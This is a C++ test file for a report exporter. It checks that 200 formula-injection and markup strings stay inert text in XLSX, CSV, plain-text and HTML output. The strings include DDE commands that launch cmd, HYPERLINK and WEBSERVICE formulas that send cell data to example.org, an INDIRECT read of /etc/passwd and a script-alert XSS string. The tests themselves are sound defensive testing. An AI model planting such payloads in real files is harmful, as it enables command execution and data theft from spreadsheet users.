// Texts that programs would take for something else: 200 of them stand in every text field of every report, and come out as they
// were in the workbook, in both kinds of CSV and in HTML, without a live formula anywhere.

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <regex>
#include <set>

#include "app/preview.h"
#include "core/reports/cells.h"
#include "edge/files/files.h"
#include "edge/spreadsheet/spreadsheet.h"
#include "edge/xlsx/render.h"
#include "edge/xlsx/sample_report.h"
#include "edge/xlsx/workbook_parts.h"
#include "support/places.h"
#include "web/preview.h"

namespace horisont {
namespace {

const RenderOptions swedish{Language::Swedish, Moment::of_seconds(1'467'331'200)};

// Every beginning that makes some spreadsheet compute, with every body that does harm: 10 × 20.
std::vector<std::string> payloads() {
  const char* beginnings[] = {"=", "+", "-", "@", "＝", "＋", "－", "＠", "=+-", "'="};
  const char* bodies[] = {"1+1",
                          "cmd|'/c calc'!A0",
                          "DDE(\"cmd\";\"/c calc\";\"x\")",
                          "HYPERLINK(\"http://example.org/?\"&A1;\"klicka\")",
                          "WEBSERVICE(\"http://example.org/\"&A1)",
                          "IMPORTXML(\"http://example.org/\";\"//a\")",
                          "SUM(1,2)*cmd|'/c calc'!A0",
                          "MSEXCEL|'\\..\\..\\System32\\cmd.exe /c calc'!''",
                          "INDIRECT(\"'file:///etc/passwd'#$passwd.A1\")",
                          "2+5+cmd|' /C calc'!A0",
                          "A1;B1",
                          "\"quoted\"",
                          "'single'",
                          "<script>alert(1)</script>",
                          "</t></is></c><c><f>1+1</f></c>",
                          "&L&D&P",
                          "{{report.id}}{0}",
                          "1,5;2\"",
                          "åäö € \xF0\x9F\x98\x80",
                          "1e9"};
  std::vector<std::string> all;
  for (const char* beginning : beginnings)
    for (const char* body : bodies) all.push_back(std::string(beginning) + body);
  return all;
}

// Puts the texts into the text cells of a report, one after the other, so that each stands somewhere in each kind of sheet.
Report hostile(const std::string& kind, const std::vector<std::string>& texts) {
  Report report = sample_report(kind, {.rows = texts.size(), .hostile = "x"});
  std::size_t next = 0;
  for (Sheet& sheet : report.sheets)
    for (auto& row : sheet.rows) {
      const std::string& text = texts[next++ % texts.size()];
      for (Cell& cell : row) {
        if (auto* plain = std::get_if<std::string>(&cell.value)) *plain = text;
        if (auto* reference = std::get_if<Reference>(&cell.value)) reference->text = text;
        if (std::holds_alternative<Kept<Bilingual>>(cell.value)) cell.value = Bilingual{text, text};
        if (std::holds_alternative<Kept<Message>>(cell.value)) cell.value = Message{"table.text", {text}};
      }
    }
  return report;
}

bool holds_text(const Sheet& sheet) {
  for (const Cell& cell : sheet.rows.front())
    if (std::holds_alternative<std::string>(cell.value) || std::holds_alternative<Reference>(cell.value) ||
        std::holds_alternative<Kept<Bilingual>>(cell.value) || std::holds_alternative<Kept<Message>>(cell.value))
      return true;
  return false;
}

std::shared_ptr<const ReportTemplate> shipped(const std::string& kind) {
  return load_report_template(std::filesystem::path(HORISONT_SOURCE_DIR) / "report-templates" / kind / "template.toml").value();
}

// The cells of CSV as a program reads them.
std::vector<std::string> cells_of(const std::string& csv, char separator) {
  std::vector<std::string> cells(1);
  bool quoted = false;
  for (std::size_t i = 0; i < csv.size(); ++i) {
    const char c = csv[i];
    if (quoted && c == '"' && i + 1 < csv.size() && csv[i + 1] == '"')
      cells.back() += '"', ++i;
    else if (c == '"')
      quoted = !quoted;
    else if (!quoted && (c == separator || c == '\n'))
      cells.emplace_back();
    else if (quoted || c != '\r')
      cells.back() += c;
  }
  return cells;
}

bool would_compute(const std::string& text) {
  if (text.empty() || std::isdigit(static_cast<unsigned char>(text.size() > 1 ? text[1] : 0))) return false;
  for (const char* beginning : {"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"})
    if (text.starts_with(beginning)) return true;
  return false;
}

TEST(HostileText, two_hundred_texts_in_every_field_of_every_report_stay_texts_in_the_workbook) {
  const std::vector<std::string> texts = payloads();
  ASSERT_EQ(texts.size(), 200u);
  for (const std::string& kind : shipped_kinds()) {
    const TemporaryFolder folder;
    const Report report = hostile(kind, texts);
    std::set<std::string> found;
    for (const auto& path : render(report, *shipped(report.kind), folder.path(), swedish)) {
      static const std::regex formula("<f>([^<]*)</f>"), ours("(SUBTOTAL|SUM|IF)\\(.*\\)|B[0-9]+-C[0-9]+");
      for (int n = 1; n <= 12; ++n) {
        const std::string xml = part(path, "xl/worksheets/sheet" + std::to_string(n) + ".xml");
        for (std::sregex_iterator it(xml.begin(), xml.end(), formula), none; it != none; ++it)
          EXPECT_TRUE(std::regex_match((*it)[1].str(), ours)) << kind << ": " << (*it)[1];
      }
      const auto book = read_workbook(path);
      ASSERT_TRUE(book) << kind;
      for (const SheetView& sheet : book->sheets())
        for (const RowView& row : sheet.rows)
          for (const CellView& cell : row.cells)
            if (cell.kind == CellView::Kind::Text) found.insert(std::string(cell.text));
    }
    for (const std::string& text : texts) EXPECT_TRUE(found.contains(text)) << kind << ": " << text;
  }
}

TEST(HostileText, no_cell_of_csv_begins_like_a_formula_and_every_text_is_there) {
  const auto opened_home = TemporaryFolder();
  const auto workspace = open_workspace(opened_home.path() / "home", HORISONT_SOURCE_DIR);
  ASSERT_TRUE(workspace);
  const std::vector<std::string> texts = payloads();
  for (const std::string& kind : shipped_kinds()) {
    const Report report = hostile(kind, texts);
    const auto tables = sheet_tables(*workspace, report, Identities::Shown);
    for (std::size_t s = 0; s < report.sheets.size(); ++s) {
      if (!holds_text(report.sheets[s])) continue;
      for (const auto& [csv, separator] : {std::pair(as_excel_csv(tables[s].table, Language::Swedish), ';'),
                                           std::pair(as_program_csv(report.sheets[s], Language::Swedish), ',')}) {
        std::set<std::string> found;
        for (const std::string& cell : cells_of(csv, separator)) {
          EXPECT_FALSE(would_compute(cell)) << kind << " " << report.sheets[s].id << ": " << cell;
          found.insert(cell.starts_with('\'') ? cell.substr(1) : cell);
          found.insert(cell);
        }
        std::size_t kept = 0;
        for (const std::string& text : texts) kept += found.contains(text);
        EXPECT_EQ(kept, texts.size()) << kind << " " << report.sheets[s].id << " with " << separator;
      }
    }
  }
}

// Decision 173: what --plain writes is opened in spreadsheets, what --json writes is read by programs.
TEST(HostileText, no_cell_of_plain_begins_like_a_formula_and_json_has_every_text_as_it_is) {
  std::vector<std::string> texts = payloads();
  for (const char* hidden : {"\t=1+1", "\n=1+1", "\xEF\xBB\xBF=1+1", "\xE2\x80\x8B=1+1", "\xC2\xA0=1+1", " =1+1"}) texts.emplace_back(hidden);
  Table table{.schema = "x"};
  table.columns = {{"text", {"Text", "Text"}}, {"told", {"Sagt", "Told"}}, {"count", {"Antal", "Count"}, Table::Column::Kind::Count}};
  for (const std::string& text : texts) table.rows.push_back({text, Message{"table.text", {text}}, std::int64_t{-7}});
  std::istringstream lines(as_plain(table, Language::Swedish));
  std::string line;
  std::getline(lines, line);
  EXPECT_EQ(line, "text\ttold\tcount");
  for (const std::string& text : texts) {
    ASSERT_TRUE(std::getline(lines, line));
    std::string flat = text;
    std::replace_if(flat.begin(), flat.end(), [](char c) { return c == '\t' || c == '\n'; }, ' ');
    const std::string cell = (text.starts_with('\'') ? "" : "'") + flat;
    EXPECT_EQ(line, cell + "\t" + cell + "\t-7") << "one mark in front, nothing else is another";
    EXPECT_FALSE(would_compute(cell));
  }
  // What only looks like one stays as it is.
  const char* harmless[] = {"-5", "-1234,50", "-0,5", "2016-03-01", "D-0042", "a=1", "'=1", "", "1+1"};
  table.rows.clear();
  for (const char* text : harmless) table.rows.push_back({std::string(text), std::string(text), std::int64_t{0}});
  std::istringstream kept(as_plain(table, Language::English));
  std::getline(kept, line);
  for (const char* text : harmless) {
    std::getline(kept, line);
    EXPECT_EQ(line, std::string(text) + "\t" + text + "\t0");
  }
  // A program takes every letter as it is.
  table.rows = {{std::string("=1+1"), std::string("-cmd|'/c calc'!A0"), std::int64_t{-7}}};
  const std::string json = as_json(table);
  EXPECT_NE(json.find("\"=1+1\""), std::string::npos) << json;
  EXPECT_NE(json.find("\"-cmd|'/c calc'!A0\""), std::string::npos) << json;
  EXPECT_NE(json.find(":-7"), std::string::npos) << json;
}

TEST(HostileText, html_shows_it_and_runs_none_of_it) {
  const auto opened_home = TemporaryFolder();
  const auto workspace = open_workspace(opened_home.path() / "home", HORISONT_SOURCE_DIR);
  ASSERT_TRUE(workspace);
  for (const std::string& kind : shipped_kinds()) {
    const Report report = hostile(kind, payloads());
    const std::string html = web::preview_as_html(report, sheet_tables(*workspace, report), Language::Swedish);
    EXPECT_EQ(html.find("<script>alert"), std::string::npos) << kind;
    EXPECT_EQ(html.find("<f>"), std::string::npos) << kind;
    EXPECT_NE(html.find("&lt;script&gt;alert(1)"), std::string::npos) << kind;
  }
}

// Excel's limit, in the units it counts in. What is longer is cut there, and nothing else of the workbook is lost.
TEST(HostileText, a_cell_holds_32767_characters_and_what_is_longer_is_cut) {
  struct Case {
    const char* sentence;
    std::string text;
    std::size_t kept;  // bytes
  };
  const std::string emoji = "\xF0\x9F\x98\x80";
  std::string letters, emojis;
  for (int i = 0; i < 32'768; ++i) letters += "å";
  for (int i = 0; i < 16'384; ++i) emojis += emoji;
  const Case cases[] = {
      {"the longest text that fits", std::string(32'767, 'x'), 32'767},
      {"one character more", std::string(32'768, 'x'), 32'767},
      {"letters of two bytes count once", letters, 32'767 * 2},
      {"signs of two units are not cut in half", emojis, 16'383 * 4},
  };
  for (const Case& c : cases) {
    const TemporaryFolder folder;
    const Report report = hostile("findings", {c.text});
    const auto paths = render(report, *shipped("findings"), folder.path(), swedish);
    const auto book = read_workbook(paths.front());
    ASSERT_TRUE(book) << c.sentence;
    std::size_t longest = 0;
    for (const SheetView& sheet : book->sheets())
      for (const RowView& row : sheet.rows)
        for (const CellView& cell : row.cells) longest = std::max(longest, cell.text.size());
    EXPECT_LE(longest, c.kept + 3) << c.sentence;
    EXPECT_GE(longest + 4, c.kept) << c.sentence << ": no more than an ellipsis is lost";
  }
}

// The control sheet says which texts are not whole, so that nobody takes the part for the whole.
TEST(HostileText, every_text_that_is_cut_is_named_on_the_control_sheet_with_its_cell) {
  for (const std::string& kind : shipped_kinds())
    for (const std::size_t units : {32'767u, 32'768u}) {
      const TemporaryFolder folder;
      const auto paths = render(hostile(kind, {std::string(units, 'x')}), *shipped(kind), folder.path(), swedish);
      std::set<std::string> cut, named;
      for (const auto& path : paths) {
        const auto book = read_workbook(path);
        ASSERT_TRUE(book) << kind;
        for (const SheetView& sheet : book->sheets()) {
          bool listing = false;
          for (const RowView& row : sheet.rows) {
            for (std::uint32_t i = 0; i < row.cells.size(); ++i) {
              const std::string text(row.cells[i].text);
              const Origin origin{.row = row.number, .column = static_cast<std::uint16_t>(i + 1)};
              if (sheet.name != "Kontroll" && text.ends_with("…")) cut.insert(sheet.name + "!" + cell_name(origin));
            }
            const std::string first = row.cells.empty() ? "" : std::string(row.cells[0].text);
            if (sheet.name == "Kontroll" && listing && row.cells.size() > 1 && first.find('!') != first.npos) named.insert(first);
            listing = listing || first.starts_with("Cell (texten slutar");
          }
        }
      }
      if (units == 32'767u) {
        EXPECT_TRUE(cut.empty() && named.empty()) << kind << ": the longest text that fits is whole";
      } else {
        EXPECT_FALSE(cut.empty()) << kind;
        EXPECT_TRUE(std::includes(cut.begin(), cut.end(), named.begin(), named.end())) << kind;
        EXPECT_EQ(named.size(), std::min<std::size_t>(cut.size(), 200)) << kind;
      }
    }
}

TEST(HostileText, a_sheet_that_no_spreadsheet_can_hold_is_refused_and_nothing_is_written) {
  const TemporaryFolder folder;
  Report report = sample_report("attendance-certificate", {.rows = 1});
  report.sheets[1].rows.assign(1'048'567, {});  // more than a sheet has room for; its cells are never looked at
  try {
    render(report, *shipped("attendance-certificate"), folder.path(), swedish);
    FAIL() << "written";
  } catch (const FileError& error) {
    EXPECT_EQ(error.message().id, "xlsx.too-many-rows");
    EXPECT_EQ(error.message().values, (std::vector<std::string>{"1048567", "1048566"}));
  }
  EXPECT_TRUE(std::filesystem::is_empty(folder.path()));
}

}  // namespace
}  // namespace horisont
